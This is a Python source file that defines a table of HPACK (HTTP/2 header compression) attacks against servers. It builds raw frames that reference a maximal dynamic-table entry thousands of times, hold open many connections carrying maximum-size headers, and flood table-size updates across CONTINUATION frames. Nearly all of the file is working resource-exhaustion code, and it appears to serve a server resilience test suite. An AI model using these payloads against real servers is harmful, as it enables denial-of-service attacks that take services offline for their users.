"""Attacks on the tables that HTTP/2 compresses heads with (HPACK, RFC 7541), a table of them."""

import contextlib

from attacker import CONTINUATION, END_HEADERS, END_STREAM, HEAD, HEADERS, HELLO, KIB, again_and_again, hear, http2_frame, streams_of

# Of the table that a client may fill, in bytes; an entry takes 32 beside its name and its value.
TABLE_BYTES, ENTRY_BYTES = 4096, 32
FRAME_BYTES = 16 * KIB
# The newest entry, as a whole field in one byte; the number of a name of the fixed table.
NEWEST = b"\xbe"
PATH = 4


def integer(number, bits, flags=0):
    most = (1 << bits) - 1
    if number < most:
        return bytes([flags | number])
    number -= most
    said = [flags | most]
    while number > 127:
        said.append(number & 127 | 128)
        number >>= 7
    return bytes([*said, number])


def text(data):
    return integer(len(data), 7) + data


def entered(name, value):
    """A field that becomes an entry of the table; its name, or its number where it is known."""
    return integer(name, 6, 0x40) + text(value) if isinstance(name, int) else b"\x40" + text(name) + text(value)


def told(name, value):
    """A field that does not."""
    return b"\x00" + text(name) + text(value)


def resize(size):
    return integer(size, 5, 0x20)


LARGEST = entered(b"x", b"y" * (TABLE_BYTES - ENTRY_BYTES - 1))


def named_again(times):
    """Calls that name the largest entry so often: a byte for 4 KiB each time."""
    begun = HELLO + http2_frame(HEADERS, END_HEADERS | END_STREAM, 1, HEAD + LARGEST)
    block = HEAD + NEWEST * times
    return streams_of(lambda stream: http2_frame(HEADERS, END_HEADERS | END_STREAM, stream, block), begun, first=3, at_a_time=10)


# As many names as a head of 16 KiB may have by the count of HTTP/2, five bytes each as it comes.
MANY_NAMES = b"".join(told(b"%c%c" % (97 + number // 26, 97 + number % 26), b"") for number in range(460))


def many_names_held(attacker):
    """Heads of as many names as may be, of calls that wait for their bodies."""
    calls = b"".join(http2_frame(HEADERS, END_HEADERS, stream, HEAD + MANY_NAMES) for stream in range(1, 101, 2))

    def step():
        if attacker.connections < 40:
            client = attacker.raw()
            client.settimeout(2)
            with contextlib.suppress(OSError):
                client.sendall(calls)
            client.setblocking(False)

    return step


def frames_held(attacker):
    """As many entries as a table takes, each of which came in a head of its own that is as large as may be."""
    block = b"\x83\x86" + told(b"content-type", b"application/grpc") + told(b"x", b"y" * (2 * FRAME_BYTES - 2 * KIB)) + entered(PATH, b"/")
    entries = TABLE_BYTES // (ENTRY_BYTES + len(":path/"))
    calls = [
        http2_frame(HEADERS, END_STREAM, 2 * number + 1, block[:FRAME_BYTES])
        + http2_frame(CONTINUATION, END_HEADERS, 2 * number + 1, block[FRAME_BYTES:])
        for number in range(entries)
    ]

    def step():
        if attacker.connections < 40:
            client = attacker.raw()
            client.settimeout(2)
            with contextlib.suppress(OSError):
                for call in calls:
                    client.sendall(call)
            client.setblocking(False)
            hear(client)

    return step


def resized(continuations):
    """Heads that change the size of the table thousands of times before they have a field."""
    sizes = (resize(0) + resize(TABLE_BYTES)) * (FRAME_BYTES // 4 - 100)

    def head_of(stream):
        begun = http2_frame(HEADERS, END_STREAM, stream, sizes)
        return begun + http2_frame(CONTINUATION, 0, stream, sizes) * continuations + http2_frame(CONTINUATION, END_HEADERS, stream, HEAD)

    return streams_of(head_of, at_a_time=1)


ATTACKS = {
    # Sixteen times the size of a head is where the library ends the connection, and before that it answers with 431.
    "an entry named without end": named_again(FRAME_BYTES - 300),
    "an entry named often": named_again(100),
    # They do not count towards the size of the head that they are in.
    "fields that may not be, a byte each": streams_of(
        lambda stream: http2_frame(HEADERS, END_HEADERS | END_STREAM, stream, HEAD + b"\x82" * (FRAME_BYTES - 300)), at_a_time=5
    ),
    "entries filled and thrown out": again_and_again(
        b"".join(http2_frame(HEADERS, END_HEADERS | END_STREAM, stream, HEAD + LARGEST * 3) for stream in range(1, 21, 2))
    ),
    "heads of many names held": many_names_held,
    "entries of large heads": frames_held,
    "sizes of the table": resized(0),
    "sizes of the table over many frames": resized(4),
}
